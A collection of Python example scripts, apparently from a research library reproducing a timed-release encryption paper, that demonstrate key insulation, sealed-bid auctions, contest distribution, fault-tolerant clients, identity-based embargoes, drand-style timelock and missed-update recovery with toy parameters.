        print(f"{threshold_k - 1} colluding members cannot release early: {exc}")


if __name__ == "__main__":
    main()
