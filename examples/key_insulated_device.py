#!/usr/bin/env python3
"""Key insulation (§5.3.3): decrypt on an insecure device, safely.

The long-term secret ``a`` lives on a smart card (the SafeDevice).  Each
epoch, the card turns the server's broadcast update into an epoch key;
the laptop (InsecureDevice) decrypts with epoch keys only.  Compromising
the laptop in epoch 3 exposes epoch-3 traffic — nothing else.

Run:  python examples/key_insulated_device.py
"""

from repro import PairingGroup
from repro.core import PassiveTimeServer, TimedReleaseScheme, epoch_label
from repro.core.keys import UserKeyPair
from repro.core.key_insulation import InsecureDevice, SafeDevice
from repro.crypto.rng import seeded_rng
from repro.errors import UpdateVerificationError


def main() -> None:
    group = PairingGroup("toy64")
    rng = seeded_rng("key-insulation")
    server = PassiveTimeServer(group, rng=rng)
    scheme = TimedReleaseScheme(group)
    user = UserKeyPair.generate(group, server.public_key, rng)

    card = SafeDevice(group, user, server.public_key)
    laptop = InsecureDevice(group)

    epochs = [epoch_label(i) for i in range(5)]
    messages = {label: f"mail for {label.decode()}".encode() for label in epochs}
    ciphertexts = {
        label: scheme.encrypt(
            messages[label], user.public, server.public_key, label, rng
        )
        for label in epochs
    }
    print(f"encrypted one message per epoch for {len(epochs)} epochs")

    # Each epoch: update arrives -> card derives epoch key -> laptop decrypts.
    for label in epochs[:3]:
        update = server.publish_update(label)
        laptop.install_epoch_key(card.derive_epoch_key(update))
        plaintext = laptop.decrypt(ciphertexts[label])
        print(f"  {label.decode()}: laptop decrypted -> {plaintext.decode()}")

    # The laptop is stolen after epoch 2.  What does the thief get?
    print("\nlaptop stolen! thief holds epoch keys:", [
        label.decode() for label in laptop.installed_epochs()
    ])
    try:
        laptop.decrypt(ciphertexts[epochs[4]])
    except UpdateVerificationError as exc:
        print(f"epoch-4 traffic stays safe: {exc}")
    print(
        "and the long-term secret a never left the card "
        f"(card derivations: {card.derivations}, laptop holds points only)"
    )

    # Hygiene: drop old epoch keys to shrink the exposure window.
    laptop.drop_epoch_key(epochs[0])
    print("dropped epoch-0 key; exposure window now:", [
        label.decode() for label in laptop.installed_epochs()
    ])


if __name__ == "__main__":
    main()
