#!/usr/bin/env python3
"""Sealed-bid auction (the paper's first motivating application, §1).

Bidders seal their bids for a government tender so that *nobody* — not
even the agent collecting them — can read a bid before the bidding
period closes.  Runs the full scenario on the discrete-event simulator
with real TRE cryptography, then prints the timeline and the privacy
ledger.

Run:  python examples/sealed_bid_auction.py [bidders]
"""

import sys

from repro.analysis import format_table
from repro.sim.scenarios import run_sealed_bid_auction


def main() -> None:
    bidders = int(sys.argv[1]) if len(sys.argv) > 1 else 8
    result = run_sealed_bid_auction(bidders=bidders, seed=20)

    rows = [
        (name, amount, "winner" if name == result.winner else "")
        for name, amount in sorted(result.bids.items())
    ]
    print(format_table(("bidder", "bid ($)", ""), rows, title="Submitted bids"))
    print()
    print(f"auction close at t={result.close_time:.0f}s")
    print(
        f"early opening attempts before close: {result.early_opening_attempts}, "
        f"refused: {result.early_openings_refused}, "
        f"succeeded: {result.early_openings_succeeded}"
    )
    print(f"all bids opened at t={result.opened_at:.2f}s (after the close)")
    print(f"winner: {result.winner} with ${result.winning_bid:,}")
    print(
        f"time server broadcasts used: {result.server_broadcasts} "
        "(one update regardless of the number of bidders)"
    )
    print(
        "server learned any sender/receiver identity or bid? "
        f"{'no' if result.ledger.server_learned_nothing() else 'YES - bug!'}"
    )
    assert result.early_openings_succeeded == 0
    assert result.early_openings_refused == result.early_opening_attempts
    assert result.opened_at >= result.close_time


if __name__ == "__main__":
    main()
