#!/usr/bin/env python3
"""Worldwide programming contest (the paper's second application, §1).

Problem sets are large and links are jittery, so they are shipped —
TRE-encrypted — long before the start.  At the start instant, the
passive time server broadcasts one tiny key update and every team opens
the problems within milliseconds of each other.  The naive alternative
(withhold the plaintext until the start, then transmit) spreads opening
times over minutes.

Run:  python examples/programming_contest.py [teams]
"""

import sys

from repro.analysis import format_table
from repro.sim.scenarios import run_programming_contest


def main() -> None:
    teams = int(sys.argv[1]) if len(sys.argv) > 1 else 20
    result = run_programming_contest(teams=teams, seed=77)

    start = result.contest_start
    rows = [
        (
            "TRE (ship early, broadcast update)",
            f"{min(result.tre_open_times) - start:+.3f}",
            f"{max(result.tre_open_times) - start:+.3f}",
            f"{result.tre_spread:.3f}",
        ),
        (
            "naive (send plaintext at start)",
            f"{min(result.naive_open_times) - start:+.3f}",
            f"{max(result.naive_open_times) - start:+.3f}",
            f"{result.naive_spread:.3f}",
        ),
    ]
    print(
        format_table(
            ("strategy", "first open (s)", "last open (s)", "spread (s)"),
            rows,
            title=f"Opening times relative to contest start (n={teams} teams)",
        )
    )
    print()
    print(
        f"ciphertexts all arrived before the start: "
        f"{max(result.ciphertext_arrivals):.1f}s <= {start:.1f}s"
    )
    print(
        f"server work: {result.server_broadcasts} broadcast, "
        f"{result.server_bytes} bytes — independent of team count"
    )
    improvement = result.naive_spread / max(result.tre_spread, 1e-9)
    print(f"fairness improvement (spread ratio): {improvement:.0f}x")
    assert result.tre_spread < result.naive_spread


if __name__ == "__main__":
    main()
