#!/usr/bin/env python3
"""Fault tolerance around the passive server: crash, catch up, decrypt.

The paper's time server is an ideal broadcaster; a real deployment has
a process that crashes, a network that drops bytes, and clients that
must cope.  This walkthrough runs the whole story on the deterministic
virtual-time loop (simulated seconds, instant wall clock):

1. a :class:`TimeServerNode` publishes ``I_T`` every epoch,
2. a :class:`ResilientTimeClient` parks ciphertexts it cannot open yet,
3. the node *crashes* mid-timeline and loses its in-memory archive,
4. the supervisor restarts it from a public archive snapshot; the epoch
   scheduler republishes every epoch the outage missed,
5. the client catches up over a fault-injected link — every update is
   authenticated with ``ê(sG, H1(T)) == ê(G, I_T)`` before it is
   trusted, so corrupted bytes are rejected and retried, and
6. every parked ciphertext decrypts once its release time has passed.

Run:  python examples/resilient_client.py
"""

import asyncio

from repro import PairingGroup
from repro.core import TimedReleaseScheme
from repro.core.keys import ServerKeyPair, UserKeyPair
from repro.crypto.rng import seeded_rng
from repro.service import (
    FaultPlan,
    FaultyTransport,
    LocalNodeTransport,
    ResilientTimeClient,
    TimeServerNode,
    run_virtual,
)


def main() -> None:
    group = PairingGroup("toy64")
    rng = seeded_rng("resilient-client")
    keypair = ServerKeyPair.generate(group, rng)  # the supervisor owns this
    scheme = TimedReleaseScheme(group)
    user = UserKeyPair.generate(group, keypair.public, rng)

    async def scenario() -> None:
        loop = asyncio.get_running_loop()

        node = TimeServerNode(group, keypair, epoch_interval=1.0)
        await node.start()
        print(f"node up: publishing one update per epoch ({node!r})")

        # A link that drops a third of requests and corrupts responses.
        plan = FaultPlan(seeded_rng(2024), drop=0.3, corrupt=0.2, delay=0.3)
        transport = FaultyTransport(LocalNodeTransport(node), plan)
        client = ResilientTimeClient(
            group, keypair.public, [transport], seeded_rng(7),
            request_timeout=0.5,
        )

        # Encrypt for epochs 3 and 6, then park: the decrypt queue holds
        # them until the verified updates exist.
        secrets = {3: b"release at epoch 3", 6: b"release at epoch 6"}
        for epoch, message in secrets.items():
            ciphertext = scheme.encrypt(
                message, user.public, keypair.public,
                node.label_for(epoch), rng,
            )
            client.park(scheme, ciphertext, user)
        print(f"parked {client.parked} ciphertexts before their release")

        # Crash at t=2: the in-memory archive is gone.  The supervisor
        # holds the latest public snapshot (no secrets inside).
        await asyncio.sleep(2.0)
        snapshot = node.snapshot()
        node.crash()
        print(f"node crashed at t={loop.time():.1f} (archive lost)")

        # Outage spans epochs 3-4; restart recovers from the snapshot
        # and the scheduler republishes the missed epochs.
        await asyncio.sleep(2.5)
        restored = await node.restart(snapshot)
        print(
            f"restarted at t={loop.time():.1f}: {restored} updates "
            f"restored, outage epochs republished"
        )

        # Everything decrypts once release times pass — drops and
        # corruption only cost retries, never correctness.
        plaintexts = await client.drain()
        assert plaintexts == list(secrets.values())
        print(f"decrypted after release: {plaintexts}")

        # Late joiner: authenticate the whole backlog in one catch-up.
        late = ResilientTimeClient(
            group, keypair.public, [transport], seeded_rng(8),
            request_timeout=0.5,
        )
        backlog = await late.catch_up()
        assert len(backlog) == node.health()["archive"]
        print(
            f"late joiner caught up: {len(backlog)} updates verified, "
            f"{late.stats()['rejected']} corrupted responses rejected"
        )
        stats = client.stats()
        print(
            f"client stats: {stats['attempts']} attempts, "
            f"{stats['retries']} retries, {stats['rejected']} rejected, "
            f"all inside {loop.time():.1f} simulated seconds"
        )

    run_virtual(scenario())


if __name__ == "__main__":
    main()
