#!/usr/bin/env python3
"""Timed press release with ID-TRE (§5.2) — and why TRE differs.

A newsroom distributes an embargoed story to subscribing outlets.
ID-TRE fits: outlets need no certificates (their identity string is
their key), and one broadcast lifts the embargo for everyone.  The
demo also surfaces the §5.2 caveat the paper is explicit about: the
server could read the story too (inherent escrow), which is exactly
what the non-identity-based TRE avoids.

Run:  python examples/timed_press_release.py
"""

from repro import PairingGroup
from repro.core import PassiveTimeServer
from repro.core.idtre import IdentityTimedReleaseScheme
from repro.core.keys import ServerKeyPair
from repro.crypto.rng import seeded_rng


def main() -> None:
    group = PairingGroup("toy64")
    rng = seeded_rng("press-release")

    master = ServerKeyPair.generate(group, rng)
    server = PassiveTimeServer(group, keypair=master)
    scheme = IdentityTimedReleaseScheme(group)
    embargo = b"2030-09-01T06:00Z"
    story = b"MERGER CONFIRMED: details follow..."

    outlets = [b"wire@apnews", b"desk@reuters", b"news@afp"]
    print(f"embargo lifts at {embargo.decode()}")

    # No key exchange with outlets needed before sending: their identity
    # string IS their public key.
    ciphertexts = {
        outlet: scheme.encrypt(story, outlet, master.public, embargo, rng)
        for outlet in outlets
    }
    print(f"story encrypted to {len(outlets)} outlets by identity alone "
          "(no certificates)")

    # Outlets enrolled with the PKG at some point and hold s*H1(ID).
    outlet_keys = {
        outlet: scheme.extract_user_key(master, outlet) for outlet in outlets
    }

    # Embargo lifts: ONE broadcast for all outlets.
    update = server.publish_update(embargo)
    print("single time-bound key update broadcast")
    for outlet in outlets:
        text = scheme.decrypt(
            ciphertexts[outlet], outlet_keys[outlet], update, master.public
        )
        assert text == story
        print(f"  {outlet.decode():15s} decrypted the story")

    # The §5.2 caveat, demonstrated rather than asserted:
    leaked = scheme.server_decrypt(ciphertexts[outlets[0]], master, outlets[0])
    assert leaked == story
    print("\ncaveat (paper §5.2): the server itself can also read it — "
          "inherent key escrow.")
    print("use the non-identity-based TRE (examples/quickstart.py) when "
          "the server must not.")


if __name__ == "__main__":
    main()
