#!/usr/bin/env python3
"""Timelock encryption against a drand-style beacon (Type-3 pairing).

The modern descendant of the paper: a randomness beacon BLS-signs each
round number; the signature doubles as the universal decryption key for
everything encrypted to that round.  Shows both the tlock stance
(anyone with the round signature decrypts) and the paper's
receiver-bound stance carried onto the asymmetric pairing.

Run:  python examples/tlock_beacon.py
(BN254 pairings in pure Python take ~0.5 s each; this demo runs ~10.)
"""

from repro.core.tlock import DrandStyleBeacon, TimelockEncryption, Type3TimedRelease
from repro.crypto.rng import seeded_rng
from repro.errors import DecryptionError
from repro.pairing.bn254 import bn254


def main() -> None:
    engine = bn254()
    rng = seeded_rng("tlock-demo")
    beacon = DrandStyleBeacon(engine, rng, period_seconds=30)
    print("beacon online (BN254, 30s rounds); public key in G2")

    # --- tlock: encrypt to a future round --------------------------------
    tlock = TimelockEncryption(engine)
    target_round = 4242
    ct = tlock.encrypt(
        b"auction opens: reserve price $2.5M", beacon.public_key,
        target_round, rng,
    )
    print(f"sealed to round {target_round} "
          f"(~{target_round * beacon.period_seconds // 3600}h of rounds)")

    signature = beacon.publish_round(target_round)
    assert beacon.verify(signature)
    print("round signature published; it IS the decryption key:")
    print("  ->", tlock.decrypt(ct, signature).decode())

    # --- the paper's receiver binding, Type-3 edition --------------------
    t3 = Type3TimedRelease(engine)
    receiver = t3.generate_user_keypair(beacon.public_key, rng)
    assert receiver.verify_well_formed(engine, beacon.public_key)
    bound_ct = t3.encrypt(
        b"for your eyes only, after round 4300", receiver,
        beacon.public_key, 4300, rng,
    )
    sig = beacon.publish_round(4300)
    try:
        t3.decrypt(bound_ct, 1, sig)  # the signature alone
    except DecryptionError:
        print("receiver-bound variant: round signature alone opens nothing")
    print("  ->", t3.decrypt(bound_ct, receiver, sig).decode())


if __name__ == "__main__":
    main()
