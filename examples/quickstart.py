#!/usr/bin/env python3
"""Quickstart: send a message into the future with TRE.

Walks the full §5.1 protocol: server key generation, user key
generation, encryption against a release time, the time server's single
self-authenticating broadcast, and decryption — plus the two failure
modes (too early, wrong update) that make it *timed* release.

Run:  python examples/quickstart.py [parameter-set]
"""

import sys

from repro import PairingGroup
from repro.core import PassiveTimeServer, TimedReleaseScheme
from repro.crypto.rng import seeded_rng
from repro.errors import UpdateNotAvailableError


def main() -> None:
    params = sys.argv[1] if len(sys.argv) > 1 else "toy64"
    group = PairingGroup(params)
    rng = seeded_rng("quickstart")
    print(f"pairing group: {group!r}  (q: {group.q.bit_length()} bits)")

    # --- Server key generation (once, ever) ---------------------------
    server = PassiveTimeServer(group, rng=rng)
    print("time server online; public key published")

    # --- User key generation ------------------------------------------
    scheme = TimedReleaseScheme(group)
    receiver = scheme.generate_user_keypair(server.public_key, rng)
    assert receiver.public.verify_well_formed(group, server.public_key)
    print("receiver key pair (aG, asG) generated and verified well-formed")

    # --- Encrypt for a future release time ----------------------------
    release = b"2031-01-01T00:00:00Z"
    message = b"Happy New Year 2031! (sealed five years early)"
    ciphertext = scheme.encrypt(
        message, receiver.public, server.public_key, release, rng
    )
    print(f"encrypted {len(message)} bytes; release time {release.decode()}")
    print(f"ciphertext size: {ciphertext.size_bytes(group)} bytes")

    # --- Before the release time: nothing to decrypt with -------------
    try:
        server.lookup(release)
    except UpdateNotAvailableError as exc:
        print(f"too early: {exc}")

    # --- The release instant: one broadcast for all users -------------
    update = server.publish_update(release)
    assert update.verify(group, server.public_key)
    print(
        "server broadcast the time-bound key update "
        f"({len(update.to_bytes(group))} bytes, self-authenticated)"
    )

    # --- Decrypt -------------------------------------------------------
    plaintext = scheme.decrypt(ciphertext, receiver, update, server.public_key)
    print(f"decrypted: {plaintext.decode()}")
    assert plaintext == message

    # --- A different update cannot open it -----------------------------
    other = server.publish_update(b"2031-01-01T00:00:01Z")
    garbage = scheme.decrypt(ciphertext, receiver, other)
    print(f"wrong update yields garbage (as expected): {garbage[:16].hex()}...")
    assert garbage != message


if __name__ == "__main__":
    main()
