#!/usr/bin/env python3
"""Missing-update resilience (§6 future work): one broadcast, all history.

A field device goes offline for weeks.  With plain TRE it must fetch
every missed update from the archive; with the hierarchical scheme the
single *latest* broadcast covers every elapsed epoch, so the device
catches up from one message.

Run:  python examples/missed_updates.py
"""

from repro import PairingGroup
from repro.core.resilient import ResilientTimeServer, ResilientTRE, left_cover
from repro.crypto.rng import seeded_rng
from repro.errors import UpdateNotAvailableError


def main() -> None:
    group = PairingGroup("toy64")
    rng = seeded_rng("missed-updates")
    depth = 8  # 256 epochs

    server = ResilientTimeServer(group, depth, rng)
    scheme = ResilientTRE(group, server.tree, server.public_key)
    device = scheme.generate_user_keypair(server.public_key, rng)
    print(f"hierarchical time tree of depth {depth} ({2**depth} epochs)")

    # Messages sealed for epochs scattered across the device's offline window.
    epochs = [17, 42, 99, 150]
    ciphertexts = {
        epoch: scheme.encrypt(
            f"orders for epoch {epoch}".encode(), device.public, epoch, rng
        )
        for epoch in epochs
    }
    print(f"messages sealed for epochs {epochs}; device goes offline...")

    # The device reconnects at epoch 200 and receives only that broadcast.
    now = 200
    update = server.publish_update(now)
    cover = left_cover(now, depth)
    print(f"device reconnects at epoch {now}; one update with "
          f"{len(cover)} node keys / {update.point_count()} points "
          f"({update.size_bytes(group)} bytes) covers epochs 0..{now}")

    for epoch in epochs:
        plaintext = scheme.decrypt(ciphertexts[epoch], device, update, rng)
        print(f"  epoch {epoch:3d}: {plaintext.decode()}")
        assert plaintext == f"orders for epoch {epoch}".encode()

    # The time lock still holds for the future.
    future_ct = scheme.encrypt(b"not yet!", device.public, 201, rng)
    try:
        scheme.decrypt(future_ct, device, update, rng)
    except UpdateNotAvailableError as exc:
        print(f"epoch 201 stays sealed: {exc}")


if __name__ == "__main__":
    main()
